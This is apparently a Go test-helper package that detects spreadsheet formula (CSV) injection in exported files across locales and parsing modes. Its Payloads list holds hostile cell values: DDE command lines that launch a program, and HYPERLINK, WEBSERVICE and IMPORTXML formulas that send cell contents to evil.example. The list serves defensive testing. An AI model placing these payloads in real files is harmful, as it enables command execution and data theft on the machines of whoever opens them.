// Package safecsvtest opens a file the way spreadsheets in different
// locales and import dialogs may, and reports every cell that would start
// a formula. It is written apart from package safecsv, with its own list of
// dangerous characters, so that the tests of every export check the rule
// instead of repeating it.
package safecsvtest

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"strings"
	"unicode"
)

// Separators are the list separators a file is split at: the comma of
// English locales, the semicolon of Swedish, German or Brazilian
// Portuguese ones, and the tab and bar an import dialog offers.
const Separators = ",;\t|"

// A Finding is a cell that starts a formula in one view of the file.
type Finding struct {
	View  string // how the file was split, e.g. `csv ';'` or `naive ','`
	Line  int    // the cell's line in that view, from 1
	Value string
}

func (f Finding) String() string { return fmt.Sprintf("%s line %d: %q", f.View, f.Line, f.Value) }

// Formulas reads data as a spreadsheet with each separator would, in three
// ways: with Go's CSV reader (quotes honoured, stray quotes kept), as Excel
// reads a quoted cell (up to the first lone quote, the rest of the cell
// kept), and split naïvely at the separator and at line breaks, quotes and
// all; and once more split at every separator at once. It returns every
// cell, in every view, that StartsFormula.
func Formulas(data []byte) []Finding {
	var out []Finding
	check := func(view string, line int, v string) {
		if StartsFormula(v) {
			out = append(out, Finding{View: view, Line: line, Value: v})
		}
	}
	for _, sep := range Separators {
		cr := csv.NewReader(bytes.NewReader(data))
		cr.Comma = sep
		cr.LazyQuotes = true
		cr.FieldsPerRecord = -1
		for line := 1; ; line++ {
			rec, err := cr.Read()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				out = append(out, Finding{View: fmt.Sprintf("csv %q", sep), Line: line, Value: "unreadable: " + err.Error()})
				break
			}
			for _, v := range rec {
				check(fmt.Sprintf("csv %q", sep), line, v)
			}
		}
		for line, rec := range excelRecords(string(data), sep) {
			for _, v := range rec {
				check(fmt.Sprintf("excel %q", sep), line+1, v)
			}
		}
		for line, l := range lines(string(data)) {
			for _, v := range strings.Split(l, string(sep)) {
				check(fmt.Sprintf("naive %q", sep), line+1, v)
			}
		}
	}
	for line, l := range lines(string(data)) {
		for _, v := range strings.FieldsFunc(l, func(r rune) bool { return strings.ContainsRune(Separators, r) }) {
			check("naive, every separator", line+1, v)
		}
	}
	return out
}

func lines(s string) []string {
	return strings.FieldsFunc(s, func(r rune) bool { return r == '\n' || r == '\r' })
}

// excelRecords splits s as Excel's CSV reader does: a cell that opens
// with a quote runs to the first quote not doubled (line breaks included),
// and whatever follows up to the separator is added to it as it is.
func excelRecords(s string, sep rune) [][]string {
	var recs [][]string
	var rec []string
	var cell strings.Builder
	inQuotes, atStart := false, true
	end := func() {
		rec = append(rec, cell.String())
		cell.Reset()
		inQuotes, atStart = false, true
	}
	rs := []rune(s)
	for i := 0; i < len(rs); i++ {
		r := rs[i]
		switch {
		case atStart && r == '"':
			inQuotes, atStart = true, false
		case inQuotes && r == '"' && i+1 < len(rs) && rs[i+1] == '"':
			cell.WriteRune('"')
			i++
		case inQuotes && r == '"':
			inQuotes = false
		case inQuotes:
			cell.WriteRune(r)
		case r == sep:
			end()
		case r == '\n' || r == '\r':
			end()
			recs = append(recs, rec)
			rec = nil
			if r == '\r' && i+1 < len(rs) && rs[i+1] == '\n' {
				i++
			}
		default:
			atStart = false
			cell.WriteRune(r)
		}
	}
	if cell.Len() > 0 || len(rec) > 0 {
		end()
		recs = append(recs, rec)
	}
	return recs
}

// plainNumber reports whether s is a number a spreadsheet reads as one,
// and no formula: a minus sign at most, digits, and a decimal point
// between digits.
func plainNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	whole, frac, point := strings.Cut(s, ".")
	digits := func(d string) bool {
		return d != "" && strings.Trim(d, "0123456789") == ""
	}
	return digits(whole) && (!point || digits(frac))
}

// StartsFormula reports whether a spreadsheet would read a cell of text v
// as a formula or distrust it: its first character, after spaces and
// double quotes, is = + - @ or one of their full-width, small,
// superscript or subscript forms, or it starts with a tab, a carriage
// return (not one of a CR LF line break) or NUL. A plain number such as -1 is a number, not a formula. An
// apostrophe makes the rest text.
func StartsFormula(v string) bool {
	for i, r := range v {
		switch {
		case r == '\r' && strings.HasPrefix(v[i:], "\r\n"):
			continue // a line break, like a space
		case r == '\t' || r == '\r' || r == 0:
			return true
		case r == '"' || unicode.IsSpace(r):
			continue
		case strings.ContainsRune(Starters, r):
			return !plainNumber(strings.Trim(v, " \""))
		default:
			return false
		}
	}
	return false
}

// Starters are the characters that start a formula: the ASCII ones and
// every form that NFKC folds to one of them.
const Starters = "=+-@" + "＝＋－＠" + "﹦﹢﹣﹫" + "⁼⁺₌₊" + "⩵⩶" + "﬩"

// A Payload is a text a guest or a host may type that a spreadsheet would
// run, whole or after a list separator, in one locale or another.
type Payload struct{ Name, Text string }

// Payloads are the 13 kinds of payload and their relatives, for
// the tests of every export.
func Payloads() []Payload {
	return []Payload{
		{"DDE command", `=cmd|' /C calc'!A0`},
		{"the issue's dietary text", `nuts;=cmd|' /C calc'!A0;`},
		{"formula after a semicolon", "nuts;=1+1"},
		{"plus", "+1"},
		{"minus", "-1+1"},
		{"at", "@SUM(1)"},
		{"tab first", "\t=1"},
		{"carriage return first", "\r=1"},
		{"formula after a comma", "a,=1"},
		{"quoted formula", `"=1"`},
		{"empty parts first", ";;=1"},
		{"full-width equals", "＝1"},
		{"hyperlink", `=HYPERLINK("http://evil.example/?leak="&A1,"Click for your code")`},
		{"DDE function", `=DDE("cmd";"/C calc";"!A0")`},
		{"DDE behind arithmetic", `-2+3+cmd|' /C calc'!A0`},
		{"DDE behind at", `@SUM(1+9)*cmd|' /C calc'!A0`},
		{"plus DDE", `+cmd|' /C calc'!A0`},
		{"formula after a line break", "no nuts\n=1+1"},
		{"formula after CR LF", "no nuts\r\n=1+1"},
		{"formula after a lone CR", "no nuts\r=1+1"},
		{"formula after a tab", "no nuts\t=1+1"},
		{"formula after a bar", "vegan|=1+1"},
		{"space before the formula", "vegan; =1+1"},
		{"quote before the formula", `vegan;"=1+1`},
		{"doubled quotes before the formula", `vegan;""=1+1`},
		{"full-width plus, minus, at", "＋1;－1;＠SUM(1)"},
		{"small forms", "﹦1,﹢1,﹣1,﹫SUM(1)"},
		{"superscript and subscript", "⁼1|⁺1|₌1|₊1"},
		{"no-break space before", "vegan;\u00a0=1+1"},
		{"NUL first", "\x00=1"},
		{"WEBSERVICE exfiltration", `=WEBSERVICE("http://evil.example/?"&A2)`},
		{"IMPORTXML in Sheets", `=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")`},
		{"invalid UTF-8 around", "\xff;=1\xfe"},
	}
}
